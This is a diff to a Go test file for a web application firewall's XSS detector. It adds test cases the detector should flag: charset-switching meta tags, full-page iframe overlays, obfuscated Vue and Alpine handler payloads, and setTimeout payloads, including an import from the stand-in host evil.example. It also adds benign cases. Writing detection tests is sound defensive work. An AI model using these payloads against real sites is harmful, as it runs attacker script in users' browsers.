@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/rampartwaf/rampart/internal/request"
@@ -120,6 +121,18 @@ func TestXSS(t *testing.T) {
 		{"meta content type with a url", `<meta http-equiv="Content-Type" content="0;url=javascript:alert(1)">`, true},
 		{"meta content type twice named", `<meta http-equiv="Content-Type" http-equiv="refresh" content="0;url=//evil.example">`, true},
 		{"meta link", `<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">`, true},
+		{"meta iso-2022-jp", `<meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp">`, true},
+		{"meta iso-2022-kr", `<META HTTP-EQUIV="content-type" CONTENT="text/html; charset=ISO-2022-KR">`, true},
+		{"meta utf-16", `<meta http-equiv="Content-Type" content="text/html; charset=utf-16">`, true},
+		{"meta hz", `<meta http-equiv="Content-Type" content="text/html; charset=hz-gb-2312">`, true},
+		{"meta utf-7 spaced", `<meta http-equiv="Content-Type" content="text/html; charset = utf-7">`, true},
+		{"meta charset iso-2022-jp", `<meta charset="iso-2022-jp">`, true},
+		{"meta unknown charset", `<meta http-equiv="Content-Type" content="text/html; charset=cp1025">`, true},
+		// a frame of another site fixed over the page
+		{"iframe fixed overlay", `<iframe src="https://evil.example/" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0"></iframe>`, true},
+		{"iframe fixed overlay with permissions", `<iframe src="https://evil.example/" name="x" allow="camera;microphone" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0"></iframe>`, true},
+		{"iframe absolute viewport overlay", `<iframe src="https://evil.example/" style="position: absolute; inset: 0; width: 100vw; height: 100vh"></iframe>`, true},
+		{"iframe fixed overlay escaped", `<iframe src=https://evil.example/ style="position:fi\78ed;inset:0">`, true},
 		// <script> start tags without a closing one
 		{"script unclosed with code", "<script>alert(1)", true},
 		{"script unclosed with assignment", "<script>a=/x/", true},
@@ -168,6 +181,28 @@ func TestXSS(t *testing.T) {
 		{"alpine handler sink passed", `<div @click="[1].find(alert)">`, true},
 		{"vue handler event view", `<div @click="$event.view.alert(1)">`, true},
 		{"vue handler event view spelled", `<div @click="$event.view['al'+'ert'](1)">`, true},
+		{"alpine handler composed path", `<img src=x @error="$event.composedPath().pop()['ev' + 'al'](name)">`, true},
+		{"alpine handler composed path x-on", `<img src=x x-on:error="$event.composedPath().pop()['ev' + 'al'](name)">`, true},
+		{"vue handler composed path v-on", `<img src=x v-on:error='$event.composedPath().pop()["ev" + "al"](name)'>`, true},
+		{"vue handler event path", `<img src=x @error="$event.path.pop().location = name">`, true},
+		{"vue handler arrow event view", `<img src=x @error="e => e.view.location = name">`, true},
+		{"vue handler owner document spaced concat", `<img src=x @error="$event.target.ownerDocument.defaultView['ev' +'al'](name)">`, true},
+		{"vue handler computed member call", `<img src=x @error="$event.target[k](name)">`, true},
+		{"vue handler string concat without call", `<img src=x @error="x = 'ev'+ 'al'">`, true},
+		// a function given to a timer is judged by its body
+		{"timer arrow assigning location", "';setTimeout(()=>location=name)//", true},
+		{"timer arrow assigning location double quote", `";setTimeout(()=>location=name)//`, true},
+		{"timer async arrow assigning location", "';setTimeout(async()=>location=name)//", true},
+		{"timer arrow assigning location href", "'; setTimeout(() => location.href = name)//", true},
+		{"timer function assigning location", "';setTimeout(function(){top.location=name})//", true},
+		{"timer arrow importing", "';setTimeout(()=>import('//evil.example/x.js'))//", true},
+		{"timer arrow writing the document", "';setTimeout(()=>document.write(name))//", true},
+		{"timer arrow Function", "';setInterval(()=>Function(name)())//", true},
+		{"timer arrow assigning a document property", "';setTimeout(()=>document.domain=name)//", true},
+		{"timer arrow location to another site", "';setTimeout(()=>location='//evil.example')//", true},
+		{"timer arrow location computed", "';setTimeout(()=>location['href']=name)//", true},
+		{"timer arrow after long comments", "';setTimeout(" + strings.Repeat("/*"+strings.Repeat("x", 200)+"*/", 8) + "()=>location=name)//", true},
+		{"timer arrow long body", "';setTimeout(()=>{" + strings.Repeat(" ", 9000) + "location=name})//", true},
 
 		// benign
 		{"bold comment", "I <b>really</b> liked it", false},
@@ -265,6 +300,18 @@ func TestXSS(t *testing.T) {
 		{"vue event value", `<input @input="query = $event.target.value">`, false},
 		{"alpine toggle", `<div x-data="{ open: false }"><button @click.prevent="open = !open">Menu</button></div>`, false},
 		{"alpine scroll to top", `<a x-on:click="scrollTo(top)">Up</a>`, false},
+		{"vue greeting concat", `<button @click="msg = 'Hello ' + name">Hi</button>`, false},
+		{"vue arrow event value", `<input @change="e => select(e.target.value)">`, false},
+		{"vue view state", `<button @click="state.view = 'list'">List</button>`, false},
+		{"vue dataset path", `<a @click="navigate($event.target.dataset.path)">x</a>`, false},
+		{"timer redirecting to a path", "setTimeout(() => { window.location.href = '/login' }, 3000);", false},
+		{"timer writing a stream", "const t = setTimeout(() => res.write(chunk), 10)", false},
+		{"timer async function", "const t = setTimeout(async () => { await save(); }, 500)", false},
+		{"timer reloading", "t = setTimeout(() => location.reload(), 1000)", false},
+		{"meta shift_jis", `<meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">`, false},
+		{"meta windows-1252", `<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head><body>Hi</body></html>`, false},
+		{"meta korean mail", `<meta http-equiv="Content-Type" content="text/html; charset=ks_c_5601-1987">`, false},
+		{"vimeo responsive embed", `<div style="padding:56.25% 0 0 0;position:relative;"><iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" style="position:absolute;top:0;left:0;width:100%;height:100%;" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe></div>`, false},
 		{"outlook markup", `<p class="MsoNormal"><span lang="EN-US" style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif">Hello</span></p>`, false},
 	}
 	for _, tt := range tests {
